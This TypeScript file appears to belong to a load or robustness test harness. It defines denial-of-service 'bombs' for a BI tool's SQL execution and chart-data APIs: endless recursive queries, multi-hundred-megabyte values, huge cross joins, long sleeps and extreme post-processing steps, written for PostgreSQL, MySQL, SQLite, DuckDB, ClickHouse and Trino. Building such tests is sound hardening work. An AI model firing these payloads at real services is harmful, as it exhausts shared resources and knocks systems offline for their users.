import { type AttackedDatabase, type Bomb, chartData, execute } from "./bomb.ts";

type Engine = AttackedDatabase["engine"];

/** Statements whose answers are large in one way or another, as each engine writes them. */
const STATEMENTS: Record<Engine, Record<string, string>> = {
  postgresql: {
    "one array of ten million": "select array_fill(1, array[10000000])",
    "one array of a hundred million": "select array_fill(1, array[100000000])",
    "one value of 200 MB": "select repeat('x', 200000000) as x",
    "rows of 1 MB": "select repeat('x', 1000000) as x from generate_series(1, 300)",
    "rows of 20 MB": "select repeat('x', 20000000) as x from generate_series(1, 30)",
    "a row of a thousand values": `select ${Array.from({ length: 1000 }, (_, i) => `repeat('x', 100000) as c${i}`).join(", ")}`,
    "many rows": "select i, i, i, i from generate_series(1, 30000000) as r(i)",
    "a cross join": "select count(*) from generate_series(1, 1000000) a, generate_series(1, 1000000) b",
    "nested JSON": "select repeat('[', 5000) || repeat(']', 5000) as j",
    "a deep JSON value": "select (repeat('[', 3000) || repeat(']', 3000))::json as j",
    "an aggregate of text": "select string_agg(repeat('x', 1000), '') from generate_series(1, 200000)",
    "no end": "with recursive t as (select 1 as a union all select a + 1 from t) select count(*) from t",
  },
  mysql: {
    "one value of 16 MB": "select repeat('x', 16000000) as x",
    "rows of 1 MB": "select repeat('x', 1000000) as x from seq_1_to_300",
    "rows of 10 MB": "select repeat('x', 10000000) as x from seq_1_to_60",
    "many rows": "select seq, seq, seq, seq from seq_1_to_30000000",
    "a cross join": "select count(*) from seq_1_to_1000000 a, seq_1_to_1000000 b",
    "a row of a thousand values": `select ${Array.from({ length: 1000 }, (_, i) => `repeat('x', 100000) as c${i}`).join(", ")}`,
    "no end": "select benchmark(10000000000, sha2('x', 512)) as b",
    sleep: "select sleep(600) as s",
  },
  sqlite: {
    "one value of 200 MB": "select printf('%.200000000c', 'x') as x",
    "one blob of 200 MB": "select hex(zeroblob(100000000)) as x",
    "rows of 1 MB":
      "with recursive r(i) as (select 1 union all select i + 1 from r where i < 300) select printf('%.1000000c', 'x') as x from r",
    "rows of 20 MB":
      "with recursive r(i) as (select 1 union all select i + 1 from r where i < 30) select printf('%.20000000c', 'x') as x from r",
    "many rows":
      "with recursive r(i) as (select 1 union all select i + 1 from r where i < 30000000) select i, i, i from r",
    "no end": "with recursive r(i) as (select 1 union all select i + 1 from r) select count(*) from r",
    "an aggregate of text":
      "with recursive r(i) as (select 1 union all select i + 1 from r where i < 200000) select group_concat(printf('%.1000c', 'x')) from r",
  },
  duckdb: {
    "one value of 200 MB": "select repeat('x', 200000000) as x",
    "one value of 4 GB": "select length(repeat('x', 4000000000)) as x",
    "one list of ten million": "select range(10000000) as x",
    "one list of a billion": "select range(1000000000) as x",
    "rows of 1 MB": "select repeat('x', 1000000) || i as x from range(300) as r(i)",
    "rows of 20 MB": "select repeat('x', 20000000) || i as x from range(30) as r(i)",
    "many rows": "select i, i, i, i from range(100000000) as r(i)",
    "a cross join": "select count(*) from range(1000000) a, range(1000000) b where a.range * b.range = 3",
    "an aggregate of lists": "select list(i) as x from range(50000000) as r(i)",
    "an aggregate of text": "select string_agg(repeat('x', 1000), '') from range(200000)",
    "a sort of all": "select i from range(200000000) as r(i) order by hash(i) limit 1",
    "no end": "with recursive t as (select 1 as a union all select a + 1 from t) select count(*) from t",
  },
  clickhouse: {
    "one value of 200 MB": "select repeat('x', 200000000) as x",
    "one array of ten million": "select range(10000000) as x",
    "rows of 1 MB": "select repeat('x', 1000000) as x from numbers(300)",
    "many rows": "select number, number, number from numbers(30000000)",
    "a cross join":
      "select count() from numbers(1000000) a, numbers(1000000) b where a.number * b.number = 3",
  },
  trino: {
    "one value of 1 MB": "select lpad('x', 1000000, 'x') as x",
    "rows of 1 MB": "select lpad('x', 1000000, 'x') as x from unnest(sequence(1, 300)) as r(i)",
    "many rows": "select a from unnest(sequence(1, 10000)) as r(a), unnest(sequence(1, 3000)) as s(b)",
  },
};

/** A value of 200 MB as a metric, by engine. */
const LARGE_METRIC: Record<Engine, string> = {
  postgresql: "max(repeat('x', 200000000))",
  mysql: "max(repeat('x', 16000000))",
  sqlite: "max(printf('%.200000000c', 'x'))",
  duckdb: "max(repeat('x', 200000000))",
  clickhouse: "max(repeat('x', 200000000))",
  trino: "max(lpad('x', 1000000, 'x'))",
};

/** Statements in the SQL editor, as virtual datasets' previews would run them, and as files. */
export function resultBombs(databases: readonly AttackedDatabase[]): Bomb[] {
  return databases.flatMap((database) => {
    const { engine } = database;
    const statements = Object.entries(STATEMENTS[engine]).flatMap(([name, sql]): Bomb[] => [
      {
        name: `${name}: run on ${engine}`,
        kind: "result",
        path: "/api/v1/sqllab/execute/",
        payload: () => execute(database, sql),
      },
      {
        name: `${name}: made a table on ${engine}`,
        kind: "result",
        path: "/api/v1/sqllab/execute/",
        payload: () => execute(database, `select count(*) from (${sql}) as t`),
      },
    ]);
    const metric = {
      metrics: [{ expressionType: "SQL", sqlExpression: LARGE_METRIC[engine], label: "bomb" }],
    };
    const wide = {
      columns: Array.from({ length: 200 }, (_, i) => ({
        expressionType: "SQL",
        sqlExpression: `name || '${"x".repeat(2000)}${i}'`,
        label: `c${i}`,
      })),
      row_limit: 10_000,
    };
    const formats = ["json", "csv", "xlsx", "arrow"].flatMap((result_format): Bomb[] => [
      {
        name: `a metric of 200 MB as ${result_format}: ${engine}`,
        kind: "result",
        path: "/api/v1/chart/data",
        payload: () => chartData(database, metric, { result_format }),
      },
      {
        name: `wide rows as ${result_format}: ${engine}`,
        kind: "result",
        path: "/api/v1/chart/data",
        payload: () => chartData(database, wide, { result_format }),
      },
    ]);
    return [...statements, ...formats, ...postProcessing(database)];
  });
}

/** Small answers that post-processing makes large. */
function postProcessing(database: AttackedDatabase): Bomb[] {
  const steps: Record<string, object> = {
    "a resample by the second": {
      operation: "resample",
      options: { rule: "1S", method: "ffill", time_column: "happened" },
    },
    "a forecast of a million periods": {
      operation: "prophet",
      options: { time_grain: "P1D", periods: 1_000_000, confidence_interval: 0.8, index: "happened" },
    },
    "a pivot of all by all": {
      operation: "pivot",
      options: { index: ["id"], columns: ["name"], aggregates: { count: { operator: "sum" } } },
    },
    "a histogram of a million bins": {
      operation: "histogram",
      options: { column: "count", bins: 100_000_000 },
    },
    "a rolling window of a million": {
      operation: "rolling",
      options: { rolling_type: "std", window: 1_000_000, columns: { count: "count" } },
    },
  };
  return Object.entries(steps).map(([name, step]) => ({
    name: `${name}: ${database.engine}`,
    kind: "result",
    path: "/api/v1/chart/data",
    payload: () =>
      chartData(database, {
        columns: ["happened", "id", "name"],
        metrics: ["count"],
        row_limit: 20_000,
        post_processing: [step],
      }),
  }));
}
